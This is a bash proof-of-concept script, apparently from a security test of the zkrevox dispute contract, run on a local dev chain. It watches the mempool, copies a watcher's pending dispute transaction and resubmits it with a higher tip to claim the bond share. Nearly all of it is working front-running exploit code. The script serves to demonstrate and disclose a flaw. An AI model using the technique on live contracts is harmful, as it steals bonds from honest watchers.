#!/bin/bash
# Front-running a dispute: anyone copies a watcher's pending dispute (the proof is not bound to the
# sender) with a higher tip, takes the bond share, and the watcher's own dispute reverts, its gas lost.
set -u; cd "$(dirname "$0")"; . ./env.sh
PY=$ROOT/.venv/bin/python
RID=$($PY frontrun_setup.py | tail -1); echo "wrong optimistic answer on request $RID"
K5=$(cast wallet private-key "test test test test test test test test test test test junk" 5); K4=$(cast wallet private-key "test test test test test test test test test test test junk" 4)
A5=$(cast wallet address $K5); A4=$(cast wallet address $K4)
cast rpc evm_setAutomine false --rpc-url $RPC >/dev/null
ZKREVOX_DEV_ACCOUNT=4 timeout 400 nice -n 10 $Z dispute $RID --json > dispute.out 2> dispute.err &
DP=$!
for i in $(seq 1 360); do
  TX=$(cast rpc txpool_content --rpc-url $RPC | $PY -c "
import json,sys; d=json.load(sys.stdin)['pending']
for s,txs in d.items():
  for n,t in txs.items(): print(t['hash'], t['input'][:10], t.get('maxPriorityFeePerGas') or t.get('gasPrice'), t['gas'])" | head -1)
  [ -n "$TX" ] && break; sleep 1
done
echo "watcher's pending tx: $TX"
set -- $TX; H=$1
INPUT=$(cast tx $H input --rpc-url $RPC)
DP_ADDR=$(cast tx $H to --rpc-url $RPC)
cast send $DP_ADDR $INPUT --private-key $K5 --gas-price 100gwei --priority-gas-price 50gwei --gas-limit 2000000 --async --rpc-url $RPC > copy.tx
cast rpc evm_mine --rpc-url $RPC >/dev/null
cast rpc evm_setAutomine true --rpc-url $RPC >/dev/null
wait $DP; echo "zkrevox dispute exit $?"; tail -3 dispute.err; cat dispute.out
echo "watcher tx: status $(cast receipt $H status --rpc-url $RPC) gasUsed $(cast receipt $H gasUsed --rpc-url $RPC)"
C=$(cat copy.tx); echo "copier tx: status $(cast receipt $C status --rpc-url $RPC) gasUsed $(cast receipt $C gasUsed --rpc-url $RPC)"
echo "copier $A5 bond-share credit: $(cast call $DP_ADDR 'credits(address)(uint256)' $A5 --rpc-url $RPC) native, state $(cast call $DP_ADDR 'requestState(uint256)' $RID --rpc-url $RPC | head -c 80)"
